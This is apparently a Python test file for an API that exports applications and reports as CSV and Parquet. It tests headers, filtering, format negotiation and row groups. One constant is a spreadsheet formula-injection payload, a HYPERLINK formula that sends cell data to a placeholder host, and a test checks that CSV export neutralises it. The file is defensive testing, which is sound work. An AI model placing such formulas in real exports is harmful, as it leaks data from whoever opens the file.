"""Lists and reports as files: what stands in them reads back as it was, and nothing in them is run."""

import csv
import io
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime
from typing import Any

import httpx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pydantic import BaseModel

from services.applications import commands, handlers
from services.applications.model import Application, ApplicationState
from shared.contracts.applications import RejectionReason
from shared.storage.tx import Uow
from shared.testing import callers
from shared.web import parquet
from shared.web.parquet import PARQUET, parquet_chunks
from tests.applications.world import END, START, World

HEADER = [
    "id", "person_id", "opportunity_id", "enabler_id", "sending_entity_id", "hosting_entity_id", "product", "country",
    "status", "reason", "start_on", "end_on", "effective_on", "recorded_at",
]  # fmt: skip
PERIOD = {"since": "2026-01-01", "until": "2026-12-31"}
ATTACK = '=HYPERLINK("http://x.example?"&A1)'


def lines(reply: httpx.Response) -> list[list[str]]:
    assert reply.status_code == 200, reply.text
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"), newline="")))


def table(reply: httpx.Response) -> pa.Table:
    assert (reply.status_code, reply.headers["content-type"]) == (200, PARQUET)
    return pq.read_table(io.BytesIO(reply.content))


async def test_the_list_as_csv(world: World) -> None:
    application = await world.apply()
    he = await world.room.client(world.he)
    reply = await he.get("/v1/applications", params={"format": "csv"})
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert reply.headers["content-disposition"] == "attachment; filename*=UTF-8''applications.csv"
    header, row = lines(reply)
    assert header == HEADER
    found = dict(zip(header, row, strict=True))
    assert (found["id"], found["status"], found["start_on"]) == (str(application.id), "open", "2026-03-02")
    assert found["reason"] == ""


async def test_the_whole_list_and_not_a_page(world: World) -> None:
    made = sorted([str((await world.apply()).id) for _ in range(5)])
    he = await world.room.client(world.he)
    rows = lines(await he.get("/v1/applications", params={"format": "csv", "limit": 2}))
    assert [row[0] for row in rows[1:]] == made


async def test_a_file_holds_what_is_the_callers_filtered_and_as_of(world: World) -> None:
    world.room.clock.set(datetime(2026, 2, 1, 9, tzinfo=UTC))
    application = await world.apply()
    world.room.clock.set(datetime(2026, 2, 5, 9, tzinfo=UTC))
    command = commands.RejectApplication(application.id, RejectionReason.skills)
    await world.room.do(handlers.reject_application, command, world.he)

    async def statuses(caller: Any, **query: str) -> list[str]:
        client = await world.room.client(caller)
        return [row[8] for row in lines(await client.get("/v1/applications", params=query | {"format": "csv"}))[1:]]

    assert await statuses(world.ep) == ["rejected"]
    assert await statuses(world.he, as_of="2026-02-04") == ["open"]
    assert await statuses(world.he, as_of="2026-02-04", status="rejected") == []
    assert await statuses(callers.participant()) == []
    assert await statuses(callers.hosting_manager(world.sending), as_of="2026-02-04") == []


@pytest.mark.parametrize(
    ("accept", "kind"),
    [
        ("text/csv", "text/csv; charset=utf-8"),
        ("text/html;q=0.9, text/csv;q=0.8", "text/csv; charset=utf-8"),
        (f"text/csv;q=0.5, {PARQUET}", PARQUET),
        ("application/json, text/csv;q=0.9", "application/json"),
        ("*/*", "application/json"),
        ("text/csv;q=much, application/json", "application/json"),
    ],
)
async def test_the_accept_header_chooses(world: World, accept: str, kind: str) -> None:
    he = await world.room.client(world.he)
    for path, query in (("/v1/applications", {}), ("/v1/reports/funnel", PERIOD)):
        reply = await he.get(path, params=query, headers={"Accept": accept})
        assert (reply.status_code, reply.headers["content-type"]) == (200, kind)
        named = await he.get(path, params={**query, "format": "json"}, headers={"Accept": accept})
        assert named.headers["content-type"] == "application/json"


async def test_a_mark_for_excel_comes_when_asked_for(world: World) -> None:
    he = await world.room.client(world.he)
    plain = await he.get("/v1/applications", params={"format": "csv"})
    marked = await he.get("/v1/applications", params={"format": "csv", "bom": "true"})
    assert marked.content == b"\xef\xbb\xbf" + plain.content


async def test_what_looks_like_a_formula_is_text(world: World) -> None:
    """A reason that came from another system; numbers in a report stay numbers."""
    application = await world.apply()

    async def poison(uow: Uow, command: None) -> None:
        row = await uow.get(Application, application.id)
        names = ApplicationState.model_fields.keys() & row.model_dump().keys() - {"id", "reason", "status"}
        given = {name: getattr(row, name) for name in names} | {"application_id": row.id, "reason": ATTACK}
        later = {"status": "rejected", "recorded_at": uow.now, "effective_on": date(2026, 3, 3)}
        uow.add(ApplicationState(**given | later))

    await world.room.do(poison, None)
    he = await world.room.client(world.he)
    for path, query in (("/v1/applications", {}), ("/v1/reports/exits", PERIOD)):
        header, row = lines(await he.get(path, params=query | {"format": "csv"}))
        assert row[header.index("reason")] == f"'{ATTACK}"
        whole = table(await he.get(path, params=query | {"format": "parquet"})).to_pylist()
        assert whole[0]["reason"] == ATTACK


async def test_the_list_as_parquet_has_types(world: World) -> None:
    application = await world.apply()
    he = await world.room.client(world.he)
    found = table(await he.get("/v1/applications", params={"format": "parquet"}))
    assert found.schema.names == HEADER
    kinds = {name: str(found.schema.field(name).type) for name in ("id", "status", "start_on", "recorded_at")}
    wanted = {"id": "string", "status": "string", "start_on": "date32[day]", "recorded_at": "timestamp[us, tz=UTC]"}
    assert kinds == wanted
    assert (found.schema.field("reason").nullable, found.schema.field("id").nullable) == (True, False)
    (row,) = found.to_pylist()
    assert (row["id"], row["start_on"], row["end_on"], row["reason"]) == (str(application.id), START, END, None)


@pytest.mark.parametrize("report", ["funnel", "cohorts", "exits", "openings"])
async def test_every_report_reads_back_from_both_formats(world: World, report: str) -> None:
    application = await world.apply()
    command = commands.RejectApplication(application.id, RejectionReason.skills)
    await world.room.do(handlers.reject_application, command, world.he)
    he, path = await world.room.client(world.he), f"/v1/reports/{report}"
    rows = (await he.get(path, params=PERIOD)).json()["rows"]
    names = list(rows[0])
    as_csv = lines(await he.get(path, params=PERIOD | {"format": "csv"}))
    assert as_csv[0] == names
    assert len(as_csv) == 1 + len(rows) > 1
    found = table(await he.get(path, params=PERIOD | {"format": "parquet"}))
    days = [{**row, "period": row["period"].isoformat()} for row in found.to_pylist()]
    assert days == rows


async def test_what_is_refused_is_a_problem_and_no_file(world: World) -> None:
    he, ep = await world.room.client(world.he), await world.room.client(world.ep)
    asked = PERIOD | {"until": "2025-01-01", "format": "csv"}
    refused = await he.get("/v1/reports/funnel", params=asked)
    assert (refused.status_code, refused.headers["content-type"]) == (422, "application/problem+json")
    assert (await ep.get("/v1/reports/funnel", params=PERIOD | {"format": "csv"})).status_code == 403


class Line(BaseModel):
    number: int
    word: str | None
    words: list[str]


async def test_a_long_file_comes_a_row_group_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "GROUP", 100)

    async def portions() -> AsyncIterator[Sequence[Line]]:
        for start in range(0, 250, 50):
            yield [Line(number=n, word=None if n % 2 else "=1", words=["a", "b"]) for n in range(start, start + 50)]

    chunks = [chunk async for chunk in parquet_chunks(Line, portions())]
    assert len(chunks) == 3
    file = pq.ParquetFile(io.BytesIO(b"".join(chunks)))
    assert [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)] == [100, 100, 50]
    assert file.read().to_pylist()[1] == {"number": 1, "word": None, "words": ["a", "b"]}


async def test_no_rows_are_still_a_file_with_columns() -> None:
    async def portions() -> AsyncIterator[Sequence[Line]]:
        return
        yield []

    content = b"".join([chunk async for chunk in parquet_chunks(Line, portions())])
    assert pq.read_table(io.BytesIO(content)).schema.names == ["number", "word", "words"]
